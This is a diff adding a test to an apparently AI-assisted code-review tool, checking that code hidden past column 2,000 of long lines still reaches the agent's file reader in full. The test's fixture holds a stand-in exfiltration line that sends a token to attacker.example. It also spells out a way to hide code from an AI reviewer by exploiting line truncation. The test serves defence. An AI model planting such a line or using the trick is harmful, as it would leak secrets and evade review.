@@ -380,3 +380,32 @@ describe("#208 a line of a file never ends its diff or starts another file's", (
     });
   });
 });
+
+describe("#221 a long line is shown whole to the agent's file tool", () => {
+  // Claude Code's Read cuts every line at 2,000 characters: what follows is never shown.
+  const SHOWN = 2000;
+  const PAYLOAD = 'fetch("https://attacker.example/?k=" + process.env.TOKEN);';
+
+  it('#221 a payload past column 2,000 of an added line (ASCII, astral, and a file cut into pieces) is in diff.patch on lines the tool shows whole', async () => {
+    const repo = makeCartRepo();
+    const lines = [
+      `export const table = "${'a'.repeat(2100)}"; ${PAYLOAD}`,
+      `export const emoji = "${'😀'.repeat(1100)}"; ${PAYLOAD}`,
+      ...Array.from({ length: 40 }, (_, i) => `export const row${i} = "${'b'.repeat(1500)}"; ${PAYLOAD}`),
+    ];
+    write(repo, 'src/table.js', `${lines.join('\n')}\n`);
+    commitAll(repo, 'a table');
+    expect((await cliCase(repo, ['review', 'scope', 'pr', '--base', 'HEAD~1'])).code).toBe(0);
+    const r = await cliCase(repo, ['review', 'prompt', 'pr']);
+    expect(r.code, r.stderr).toBe(0);
+    const folder = folderOf(repo, 'pr');
+    const patches = readdirSync(folder).filter((n) => /^diff.*\.patch$/.test(n));
+    expect(patches.length).toBeGreaterThan(1);
+    const shown = patches.flatMap((n) => readFileSync(join(folder, n), 'utf8').split('\n'));
+    for (const l of shown) expect(l.length, l.slice(0, 80)).toBeLessThanOrEqual(SHOWN);
+    // Each added line, put back together from its pieces, is there whole.
+    const joined = shown.join('\n').replace(/\n\\>/g, '');
+    for (const l of lines) expect(joined).toContain(`+${l}\n`);
+    expect(readFileSync(join(folder, 'prompt.md'), 'utf8')).toMatch(/longer than 1,000 characters/);
+  });
+});
